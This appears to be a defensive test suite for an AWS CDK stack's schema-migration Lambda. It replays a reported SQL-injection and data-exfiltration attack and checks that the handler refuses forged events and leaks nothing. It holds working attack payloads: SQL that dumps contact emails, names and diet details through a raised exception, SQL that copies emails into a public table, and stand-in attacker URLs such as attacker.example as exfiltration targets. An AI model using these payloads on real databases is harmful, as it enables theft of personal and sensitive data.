// Attacks on the schema-migrations function (issue 10, break 1): anyone allowed
// lambda:InvokeFunction sent it SQL in ResourceProperties.CatalogSql, ran it as
// the master user, and read the database error (RAISE EXCEPTION with
// string_agg over contacts and diets) at a URL of their choice. Each test
// replays a variant against a real PostgreSQL and the handler as deployed.
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { App, Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { Catalog } from '../../lib/catalog/catalog';
import { databaseSql } from '../../lib/database/database-sql';
import { bundleDir } from '../../lib/runtime/bundles';
import type { CustomResourceEvent } from '../../lib/runtime/cfn-response';
import { migration } from '../../lib/database/migrations';
import { createMigrateHandler, EMBEDDED_MIGRATIONS, MigrateHandlerOptions } from '../../lib/runtime/migrate';
import { CATALOG_SQL_FILE, migrationsList, readMigrateAsset, sha256, stageMigrateAsset } from '../../lib/database/migrate-asset';
import { ContactBaselineStack } from '../../lib/stacks/contact-baseline-stack';
import { startPostgres, TestDatabase } from '../helpers/postgres';
import { defaultConfig } from '../helpers/reference';
import { captureConsole, httpSender, ResponseServer, startResponseServer } from '../runtime/response-server';

const REGION = 'eu-west-3';
const STACK_ID = 'arn:aws:cloudformation:eu-west-3:111122223333:stack/GdprContactBaseline/1f2e3d4c-0000-1111-2222-333344445555';
const CFN_URL = 'https://cloudformation-custom-resource-response-euwest3.s3.eu-west-3.amazonaws.com/key?X-Amz-Signature=abc';
/** What the attacker wants out of the database, and must never see. */
const SECRETS = /alice|martin|halal|bob@/i;
const LEAK = "DO $$ BEGIN RAISE EXCEPTION 'leak: %', (SELECT string_agg(c.email || ' ' || c.last_name || ' ' || coalesce(d.detail, ''), ', ') FROM crm.contacts c LEFT JOIN crm.special_diet d ON d.contact_id = c.id); END $$;";
const WRITE = 'CREATE TABLE public.pwned AS SELECT email FROM crm.contacts; GRANT ALL ON public.pwned TO PUBLIC;';

let db: TestDatabase;
let server: ResponseServer;
let asset: ReturnType<typeof stageMigrateAsset>;
let logicalId: string;
let options: MigrateHandlerOptions;
let template: Template;
let assemblyDir: string;
let stack: ContactBaselineStack;

function synth(): { stack: ContactBaselineStack; template: Template; dir: string } {
  const dir = mkdtempSync(join(tmpdir(), 'gdpr-migrate-synth-'));
  const app = new App({ outdir: dir, builtinCloudFormationValidation: false });
  const s = new ContactBaselineStack(app, 'GdprContactBaseline', { config: defaultConfig() });
  return { stack: s, template: Template.fromStack(s), dir };
}

beforeAll(async () => {
  db = await startPostgres();
  server = await startResponseServer();
  ({ stack, template, dir: assemblyDir } = synth());
  logicalId = Stack.of(stack).getLogicalId(stack.schema.resource.node.defaultChild as never);
  asset = stageMigrateAsset(mkdtempSync(join(tmpdir(), 'gdpr-migrate-asset-')), bundleDir('migrate'), stack.schema.catalogSql);
  const { host, port, user, password, database } = (db.admin as any).connectionParameters;
  options = {
    host,
    port,
    database,
    credentials: async () => ({ user, password }),
    assetDir: asset.dir,
    expected: { stackId: STACK_ID, logicalResourceId: logicalId, region: REGION },
    expectedAsset: asset,
    // Delivers over plain HTTP to the URL the handler chose, or, for CloudFormation's bucket, to the local server: what the handler sends is visible.
    send: httpSender(server.url),
    ssl: false,
  };
  // A deployed database with personal data in it.
  await captureConsole(() => createMigrateHandler(options)(genuine('Create')));
  expect(server.requests.map((r) => JSON.parse(r.body).Status)).toEqual(['SUCCESS']);
  await db.admin.query(`
    INSERT INTO crm.contacts (id, email, first_name, last_name) VALUES
      ('00000000-0000-4000-8000-000000000001', 'alice@example.fr', 'Alice', 'Martin'),
      ('00000000-0000-4000-8000-000000000002', 'bob@example.fr', 'Bob', 'Durand');
    INSERT INTO crm.consents (contact_id, purpose, source, proof_reference, explicit, age_at_consent, age_established)
      VALUES ('00000000-0000-4000-8000-000000000001', 'special_diet', 'front desk', 'signed-form-1', true, 40, 'identity-document');
    INSERT INTO crm.special_diet (contact_id, detail) VALUES ('00000000-0000-4000-8000-000000000001', 'halal');`);
});
afterAll(async () => {
  await server?.close();
  await db?.stop();
});
beforeEach(() => {
  server.requests.length = 0;
  (options.send as ReturnType<typeof httpSender>).sentTo.length = 0;
});

function genuine(RequestType: CustomResourceEvent['RequestType'], overrides: Partial<CustomResourceEvent> = {}, properties: Record<string, unknown> = {}): CustomResourceEvent {
  return {
    RequestType,
    ResponseURL: CFN_URL,
    StackId: STACK_ID,
    RequestId: '8c1d0e2f-1111-2222-3333-444455556666',
    LogicalResourceId: logicalId,
    PhysicalResourceId: RequestType === 'Create' ? undefined : `${options.host}/${options.database}/schema`,
    ResourceProperties: { ServiceToken: 'arn:aws:lambda:eu-west-3:111122223333:function:schema', Migrations: asset.migrations, CatalogSqlSha256: asset.catalogSqlSha256, ...properties },
    ...overrides,
  };
}

/** Everything an attack could change: data, schema, roles, privileges, the migrations journal. */
async function snapshot(): Promise<string> {
  const q = async (sql: string) => JSON.stringify((await db.admin.query(sql)).rows);
  return [
    await q('SELECT email, first_name, last_name FROM crm.contacts ORDER BY email'),
    await q('SELECT contact_id, detail FROM crm.special_diet ORDER BY contact_id'),
    await q('SELECT version, checksum FROM meta.schema_migrations ORDER BY version'),
    await q("SELECT table_schema, table_name FROM information_schema.tables WHERE table_schema NOT IN ('pg_catalog', 'information_schema') ORDER BY 1, 2"),
    await q("SELECT rolname, rolsuper, rolcanlogin, rolcreaterole FROM pg_roles WHERE rolname NOT LIKE 'pg\\_%' ORDER BY 1"),
    await q("SELECT grantee, table_schema, table_name, column_name, privilege_type FROM information_schema.column_privileges WHERE table_schema = 'crm' ORDER BY 1, 2, 3, 4, 5"),
  ].join('\n');
}

const bodies = () => server.requests.map((r) => JSON.parse(r.body));

describe('a forged direct invocation changes nothing and discloses nothing', () => {
  test('the break as reported: SQL in the properties, the attacker’s URL and stack: nothing runs, nothing is sent, nothing is logged but a fixed line', async () => {
    const before = await snapshot();
    const forged = {
      RequestType: 'Update',
      ResponseURL: server.url,
      StackId: 'arn:aws:cloudformation:eu-west-3:999999999999:stack/x/y',
      RequestId: 'r',
      LogicalResourceId: 'SchemaResource',
      PhysicalResourceId: 'x',
      ResourceProperties: { CatalogSql: LEAK },
    };
    const { output } = await captureConsole(() => createMigrateHandler(options)(forged));
    expect(server.requests).toEqual([]);
    expect(await snapshot()).toBe(before);
    expect(output).not.toMatch(SECRETS);
    expect(output).toMatch(/"refused":"not a CloudFormation request/);
  });

  test.each<[string, Partial<CustomResourceEvent>]>([
    ['another host over HTTPS', { ResponseURL: 'https://attacker.example/collect' }],
    ['a local server', { ResponseURL: 'http://127.0.0.1:9/collect' }],
    ['another region’s CloudFormation bucket', { ResponseURL: 'https://cloudformation-custom-resource-response-euwest1.s3.eu-west-1.amazonaws.com/key' }],
    ['another stack', { StackId: STACK_ID.replace('GdprContactBaseline', 'Attacker') }],
    ['another resource of the stack', { LogicalResourceId: 'RetentionPurge' }],
  ])('an otherwise genuine event to %s is refused: no response anywhere, no change', async (_what, overrides) => {
    const before = await snapshot();
    for (const type of ['Create', 'Update', 'Delete'] as const) {
      const { output } = await captureConsole(() => createMigrateHandler(options)(genuine(type, overrides, { CatalogSql: LEAK })));
      expect(output).not.toMatch(SECRETS);
    }
    expect((options.send as ReturnType<typeof httpSender>).sentTo).toEqual([]);
    expect(server.requests).toEqual([]);
    expect(await snapshot()).toBe(before);
  });

  test('SQL smuggled into an event that is right in every other respect is refused, and CloudFormation’s bucket alone is answered', async () => {
    const before = await snapshot();
    for (const sql of [LEAK, WRITE]) {
      const { output } = await captureConsole(() => createMigrateHandler(options)(genuine('Update', {}, { CatalogSql: sql })));
      expect(output).not.toMatch(SECRETS);
    }
    expect(await snapshot()).toBe(before);
    expect((options.send as ReturnType<typeof httpSender>).sentTo).toEqual([CFN_URL, CFN_URL]);
    expect(bodies().map((b) => [b.Status, b.Reason])).toEqual([
      ['FAILED', expect.stringMatching(/does not take; it takes only ServiceToken, ServiceTimeout, Migrations, CatalogSqlSha256 .*: nothing was run/)],
      ['FAILED', expect.stringMatching(/nothing was run/)],
    ]);
    expect(JSON.stringify(bodies())).not.toMatch(SECRETS);
  });

  test('a replay of CloudFormation’s own event runs only the shipped SQL: the database is as it was', async () => {
    const before = await snapshot();
    const { output } = await captureConsole(() => createMigrateHandler(options)(genuine('Update')));
    expect(await snapshot()).toBe(before);
    expect(bodies()).toEqual([expect.objectContaining({ Status: 'SUCCESS', Data: { Applied: 'none' } })]);
    expect(output).not.toMatch(SECRETS);
  });

  test('the handler as bundled and deployed, configured as the template configures it, refuses the reported attack', async () => {
    const fn = template.toJSON().Resources[Stack.of(stack).getLogicalId(stack.schema.handler.function.node.defaultChild as never)];
    const env = fn.Properties.Environment.Variables;
    const saved = { ...process.env };
    Object.assign(process.env, {
      AWS_REGION: REGION,
      STACK_ID,
      LOGICAL_RESOURCE_ID: env.LOGICAL_RESOURCE_ID,
      CATALOG_SQL_SHA256: env.CATALOG_SQL_SHA256,
      MIGRATIONS_SHA256: env.MIGRATIONS_SHA256,
      DB_HOST: options.host,
      DB_PORT: String(options.port),
      DB_NAME: options.database,
    });
    try {
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      const { handler } = require(join(bundleDir('migrate'), 'index.js'));
      const before = await snapshot();
      const { output } = await captureConsole(() =>
        handler({ RequestType: 'Update', ResponseURL: server.url, StackId: STACK_ID, RequestId: 'r', LogicalResourceId: env.LOGICAL_RESOURCE_ID, PhysicalResourceId: 'x', ResourceProperties: { CatalogSql: LEAK } }),
      );
      expect(server.requests).toEqual([]);
      expect(await snapshot()).toBe(before);
      expect(output).toBe(JSON.stringify({ refused: 'not a CloudFormation request for this resource of this stack; nothing was done or sent', check: 'ResponseURL' }));
    } finally {
      process.env = saved;
    }
  });
});

describe('a genuine migration that fails with personal data in its error discloses none of it', () => {
  /** The shipped migrations plus one more, staged as the construct stages them, so its hashes are genuine. */
  function assetWith(extra: string, name: string) {
    const next = String(asset.migrations.split(',').length + 1).padStart(4, '0');
    const migrations = [...EMBEDDED_MIGRATIONS, migration(`${next}_${name}.sql`, extra)];
    const staged = stageMigrateAsset(mkdtempSync(join(tmpdir(), 'gdpr-migrate-asset-')), bundleDir('migrate'), stack.schema.catalogSql, migrationsList(migrations));
    return { staged, migrations, file: `${next}_${name}.sql` };
  }

  test.each([
    ['RAISE EXCEPTION with string_agg over contacts and diets', LEAK, 'leak', 'P0001'],
    ['a unique index over duplicated e-mails (Key (email)=(...) is duplicated)', "INSERT INTO crm.contacts (email, last_name) VALUES ('alice@example.fr', 'Martin');\nCREATE UNIQUE INDEX contacts_email ON crm.contacts (email);", 'unique_email', '23505'],
  ])('%s: the Reason and the logs name the step and the SQLSTATE, no value', async (_what, sql, name, sqlstate) => {
    const { staged, migrations, file } = assetWith(sql, name);
    const before = await snapshot();
    const { output } = await captureConsole(() =>
      createMigrateHandler({ ...options, assetDir: staged.dir, migrations, expectedAsset: staged, databaseLog: 'the log group /aws/rds/cluster/x/postgresql' })(
        genuine('Update', {}, { Migrations: staged.migrations, CatalogSqlSha256: staged.catalogSqlSha256 }),
      ),
    );
    expect(bodies()).toEqual([
      expect.objectContaining({
        Status: 'FAILED',
        Reason: `migration ${file} failed and was rolled back (SQLSTATE ${sqlstate}). The database's message, if any, is in the log group /aws/rds/cluster/x/postgresql, not here: it can hold personal data`,
      }),
    ]);
    expect(JSON.stringify(bodies())).not.toMatch(SECRETS);
    expect(output).toMatch(new RegExp(`SQLSTATE ${sqlstate}`));
    expect(output).not.toMatch(SECRETS);
    expect(await snapshot()).toBe(before);
  });
});

describe('the template carries hashes, the asset carries the SQL', () => {
  test('no SQL in the custom resource’s properties: hashes only', () => {
    const [resource] = Object.values(template.findResources('Custom::ContactSchema')) as any[];
    expect(Object.keys(resource.Properties).sort()).toEqual(['CatalogSqlSha256', 'Migrations', 'ServiceTimeout', 'ServiceToken']);
    expect(resource.Properties.Migrations).toMatch(/^\d+:[0-9a-f]{64}(,\d+:[0-9a-f]{64})*$/);
    expect(resource.Properties.CatalogSqlSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(template.toJSON())).not.toMatch(/GRANT SELECT|CREATE ROLE|CREATE POLICY/);
  });

  test('the function’s asset holds catalog.sql and the migrations whose hashes its environment and the resource carry', () => {
    const fn = template.toJSON().Resources[Stack.of(stack).getLogicalId(stack.schema.handler.function.node.defaultChild as never)];
    const dir = join(assemblyDir, `asset.${String(fn.Properties.Code.S3Key).replace(/\.zip$/, '')}`);
    // The migrations are those embedded in the asset's index.js (the built migrate bundle, byte for byte), as the deployed function reads them.
    expect(readFileSync(join(dir, 'index.js')).equals(readFileSync(join(bundleDir('migrate'), 'index.js')))).toBe(true);
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const shipped = readMigrateAsset(dir, require(join(bundleDir('migrate'), 'index.js')).EMBEDDED_MIGRATIONS);
    expect(readdirSync(dir).sort()).toEqual([CATALOG_SQL_FILE, 'index.js']);
    expect(readFileSync(join(dir, CATALOG_SQL_FILE), 'utf8')).toBe(stack.schema.catalogSql);
    const env = fn.Properties.Environment.Variables;
    expect(env.CATALOG_SQL_SHA256).toBe(sha256(readFileSync(join(dir, CATALOG_SQL_FILE))));
    expect(env.MIGRATIONS_SHA256).toBe(shipped.migrationsSha256);
    expect(env.STACK_ID).toEqual({ Ref: 'AWS::StackId' });
    expect(env.LOGICAL_RESOURCE_ID).toBe(logicalId);
    template.hasResourceProperties('Custom::ContactSchema', { Migrations: shipped.migrations, CatalogSqlSha256: shipped.catalogSqlSha256 });
    expect(shipped.migrations).toBe(databaseSql(Catalog.fromConfig(defaultConfig())).migrations.map((m) => `${m.version}:${m.checksum}`).join(','));
  });

  test('two syntheses give the same asset; another catalog gives another', () => {
    const key = (t: Template, s: ContactBaselineStack) => t.toJSON().Resources[Stack.of(s).getLogicalId(s.schema.handler.function.node.defaultChild as never)].Properties.Code.S3Key;
    const again = synth();
    expect(key(again.template, again.stack)).toBe(key(template, stack));
    const root = mkdtempSync(join(tmpdir(), 'gdpr-migrate-asset-'));
    const one = stageMigrateAsset(root, bundleDir('migrate'), stack.schema.catalogSql);
    expect(stageMigrateAsset(root, bundleDir('migrate'), stack.schema.catalogSql).dir).toBe(one.dir);
    expect(stageMigrateAsset(root, bundleDir('migrate'), `${stack.schema.catalogSql}\n-- changed`).dir).not.toBe(one.dir);
  });

  test('a staged directory tampered with is rebuilt, not reused', () => {
    const root = mkdtempSync(join(tmpdir(), 'gdpr-migrate-asset-'));
    const one = stageMigrateAsset(root, bundleDir('migrate'), stack.schema.catalogSql);
    writeFileSync(join(one.dir, CATALOG_SQL_FILE), LEAK);
    const two = stageMigrateAsset(root, bundleDir('migrate'), stack.schema.catalogSql);
    expect(two.dir).toBe(one.dir);
    expect(readFileSync(join(two.dir, CATALOG_SQL_FILE), 'utf8')).toBe(stack.schema.catalogSql);
  });
});
